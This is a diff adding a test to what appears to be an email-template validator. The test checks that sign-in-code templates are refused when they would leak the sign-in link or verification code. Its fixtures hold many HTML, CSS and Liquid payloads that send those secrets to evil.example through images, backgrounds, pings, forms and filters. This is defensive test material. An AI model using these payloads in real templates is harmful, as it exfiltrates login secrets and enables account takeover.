@@ -110,6 +110,47 @@ test(
   }),
 )
 
+// A picture with a sign-in link in its address tells the link to whoever serves the picture.
+test(
+  'a code or a link to get in stands by itself in a text, and in HTML is shown or the address of a link',
+  inWorld(async (world) => {
+    const url = '{{ sign_in_url }}'
+    const code = '{{ verification_code }}'
+    const refused: { html?: string; text?: string }[] = [
+      `<img src="https://evil.example/x.png?u=${url}">`,
+      `<img src='https://evil.example/x.png?u=\n<p>${url}</p>'>`,
+      `<p background="${url}">x</p>`,
+      `<p style="background:url(${url})">x</p>`,
+      `<a href="https://evil.example/?u=${url}">x</a>`,
+      `<a href="${url}" ping="https://evil.example">x</a>`,
+      `<p>https://evil.example/?u=${code}</p>`,
+      `<style>a[href*="1"]{background:url(https://evil.example/1)}</style><a href="${url}">x</a>`,
+      `<style>p{content:"${code}"}</style>`,
+      `<link rel="stylesheet" href="https://evil.example"><a href="${url}">x</a>`,
+      `<!--[if mso]><img src="${url}"><![endif]-->`,
+      `<form action="https://evil.example"><textarea name="u">${code}</textarea></form>`,
+      `<p ${code}>x</p>`,
+      `{{ verification_code | prepend: "https://evil.example/?u=" }}`,
+      `{% if verification_code == "123456" %}<img src="https://evil.example/123456">{% endif %}x`,
+    ].map((html) => ({ html }))
+    refused.push({ text: `https://evil.example/?u=${code}` }, { text: `{{ sign_in_url | upcase }}` })
+    for (const parts of refused) {
+      const error = await failure(
+        updateTemplate(admin(world), { type: 'SIGN_IN_CODE', locale: 'EN', ...parts }),
+      )
+      expect(error, JSON.stringify(parts)).toMatchObject({ code: 'INVALID_INPUT', path: Object.keys(parts) })
+    }
+    const html = `<style>p{color:red}</style><img src="https://vendor.example/logo.png"><p>Code:\n<b>${code}</b>, or\n<a href="${url}">sign in</a> (${url}).</p>`
+    const given = { type: 'SIGN_IN_CODE', locale: 'EN', html, text: `Code: ${code}.\n${url}` }
+    expect(await updateTemplate(admin(world), given)).toMatchObject({ html })
+    // Of mails without a secret nothing is asked.
+    await updateTemplate(admin(world), {
+      ...english,
+      html: '<img src="https://vendor.example/?c={{ customer_name }}">',
+    })
+  }),
+)
+
 test(
   'what is wrong in several parts is told together',
   inWorld(async (world) => {
